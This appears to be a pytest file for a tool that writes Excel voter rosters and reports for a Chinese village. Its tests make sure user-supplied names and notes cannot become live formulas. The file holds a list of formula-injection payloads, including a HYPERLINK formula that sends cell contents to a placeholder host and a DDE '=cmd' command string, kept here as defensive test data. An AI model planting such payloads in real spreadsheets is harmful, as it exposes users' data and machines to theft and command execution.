"""Excel files the program writes: the roster template, the import report, the county list."""

from __future__ import annotations

from datetime import date

from openpyxl import load_workbook

from printing.workbooks import ReportRow, full_list, import_report, roster_template
from workflows.core.idcard import make_id
from workflows.core.roster_read import read_workbook
from workflows.voters.roster import RosterRules, check_workbook


def test_template_has_lists_text_ids_and_reads_back_as_a_roster(tmp_path):
    path = roster_template(tmp_path / "t.xlsx", "石桥村", ["第一村民小组", "上屋组"], "2026年12月20日")
    book = load_workbook(path)
    sheet = book["花名册"]
    assert [c.value for c in sheet[2]][:11] == ["村民小组", "姓名", "性别", "民族", "公民身份号码",
                                                "出生日期", "文化程度", "政治面貌", "登记类别",
                                                "联系电话", "备注"]
    assert sheet["E3"].number_format == "@"
    ranges = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    assert ranges["A3:A2002"] == "=选项!$A$2:$A$3"
    assert "I3:I2002" in ranges and ranges["E3:E2002"] == "18"
    assert book["选项"].sheet_state == "hidden"
    # a clerk fills two rows and the importer reads them
    sheet["A3"], sheet["B3"], sheet["E3"], sheet["I3"] = ("上屋组", "张伟",
                                                          make_id("360102", date(1980, 5, 1), 11),
                                                          "1 户籍在本村并居住")
    sheet["A4"], sheet["B4"], sheet["E4"], sheet["I4"] = ("第一村民小组", "王芳",
                                                          make_id("360102", date(1975, 3, 8), 22), "外出不参加")
    book.save(path)
    result = check_workbook(read_workbook(path), RosterRules(date(2026, 12, 20),
                                                             groups=["第一村民小组", "上屋组"]))
    assert [r.voter.name for r in result.voters()] == ["张伟"]
    assert "明确表示不参加" in result.warnings[0].message


def test_report_highlights_problem_cells(tmp_path):
    rows = [ReportRow("一组", 7, ["张伟", "3601"], ["身份证号码应为18位"], [1], True),
            ReportRow("一组", 9, ["王芳", "360102200901010228"], ["未满18周岁"], [], False)]
    path = import_report(tmp_path / "r.xlsx", ["姓名", "公民身份号码"], rows, ["共检查 2 行"])
    sheet = load_workbook(path).active
    header = next(r for r in range(1, 6) if sheet.cell(row=r, column=1).value == "工作表")
    first = header + 1
    assert sheet.cell(row=first, column=4).value == "3601"
    assert sheet.cell(row=first, column=4).fill.fgColor.rgb.endswith("F8CBAD")
    assert sheet.cell(row=first, column=3).fill.fgColor.rgb in ("00000000", None)
    assert sheet.cell(row=first, column=5).value == "身份证号码应为18位"
    assert sheet.cell(row=first + 1, column=5).fill.fgColor.rgb.endswith("FFF2CC")


def test_county_list_carries_the_personal_data_warning(tmp_path):
    path = full_list(tmp_path / "l.xlsx", "石桥村选民名单", ["姓名", "公民身份号码"],
                     [["张伟", "360102198005010112"]], "本表含个人信息")
    sheet = load_workbook(path).active
    assert sheet["A2"].value == "本表含个人信息"
    assert sheet["B4"].value == "360102198005010112" and sheet["B4"].number_format == "@"


# --- no formulas out (item 10) --------------------------------------------------------------

HOSTILE = ("=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(1)", "＝1+1", "\t=1+1")


def written_cells(path) -> tuple[list[str], dict[str, tuple[str, str]]]:
    """Every worksheet's formula elements, and each text cell's (type, text), read from the XML."""
    import zipfile
    from xml.etree import ElementTree

    formulas, cells = [], {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            root = ElementTree.fromstring(archive.read(name))
            for element in root.iter():
                tag = element.tag.rpartition("}")[2]
                if tag == "f":
                    formulas.append(f"{name}: {element.text}")
                elif tag == "c":
                    text = "".join(t.text or "" for t in element.iter() if t.tag.endswith("}t"))
                    value = next((v.text for v in element.iter() if v.tag.endswith("}v")), None)
                    cells[f"{name}!{element.get('r')}"] = (element.get("t", "n"), text or value or "")
    return formulas, cells


def assert_no_formula(path, *hostile: str) -> None:
    """No <f> anywhere; each hostile value is a text cell (inline string) holding it as typed,
    with the quote prefix; openpyxl reads it back as text, not a formula."""
    formulas, cells = written_cells(path)
    assert formulas == []
    for value in hostile:
        found = [(ref, kind) for ref, (kind, text) in cells.items() if text == value]
        assert found, value
        assert all(kind in ("inlineStr", "s") for _ref, kind in found), (value, found)
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "＝")):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)


def test_the_template_holds_no_formula_whatever_the_village_and_groups_are_called(tmp_path):
    path = roster_template(tmp_path / "t.xlsx", HOSTILE[1], [HOSTILE[0], HOSTILE[2], "上屋组"], "2026年12月20日")
    assert_no_formula(path, HOSTILE[0], HOSTILE[2])
    assert load_workbook(path)["花名册"]["A1"].value.startswith(HOSTILE[1])


def test_the_import_report_holds_no_formula_in_names_notes_or_phones(tmp_path):
    rows = [ReportRow("一组", 2, [value, "3601", value, value], [f"姓名不能以“{value[:1]}”开头"], [0], True)
            for value in HOSTILE] + [ReportRow("一组", 9, ["张\x01三", "3601", "", ""], ["控制字符"], [0], True)]
    path = import_report(tmp_path / "r.xlsx", ["姓名", "公民身份号码", "联系电话", "备注"], rows,
                         [f"花名册检查报告：{HOSTILE[1]}"])
    assert_no_formula(path, *HOSTILE)
    assert any(text == "张\ufffd三" for _kind, text in written_cells(path)[1].values())


def test_the_county_list_holds_no_formula_in_names_notes_or_phones(tmp_path):
    rows = [[str(i), "上屋组", value, "男", "汉族", "360102198005010011", "1980-05-01", "高中", "群众", "1",
             value, value] for i, value in enumerate(HOSTILE, start=1)]
    path = full_list(tmp_path / "l.xlsx", HOSTILE[0], ["序号", "村民小组", "姓名", "性别", "民族", "公民身份号码",
                                                       "出生日期", "文化程度", "政治面貌", "登记类别", "联系电话",
                                                       "备注"], rows, "本表含个人信息")
    assert_no_formula(path, *HOSTILE)
    sheet = load_workbook(path).active
    assert sheet["C4"].value == HOSTILE[0] and sheet["F4"].number_format == "@"


def test_check_roster_report_holds_no_formula(tmp_path):
    """main.py check-roster FILE --report OUT.xlsx goes through the file checks and writes the
    highlighted report with hostile names as text."""
    import io

    from tests.hostile_files import HOSTILE_VALUES, hostile_cells_roster
    from workflows.voters.roster import run_check_roster

    out, err = io.StringIO(), io.StringIO()
    code = run_check_roster(hostile_cells_roster(tmp_path / "h.xlsx"), date(2026, 12, 20), "national", None,
                            out, err, report=str(tmp_path / "report.xlsx"))
    assert code == 1 and err.getvalue() == ""
    assert "工作表“花名册” 第2行 B列（姓名）：姓名不能以“=”开头" in out.getvalue()
    assert_no_formula(tmp_path / "report.xlsx", *HOSTILE_VALUES)
    refused = run_check_roster(tmp_path / "x.xlsx", date(2026, 12, 20), "national", None, out, err,
                               report=str(tmp_path / "never.xlsx"))
    assert refused == 2 and not (tmp_path / "never.xlsx").exists()
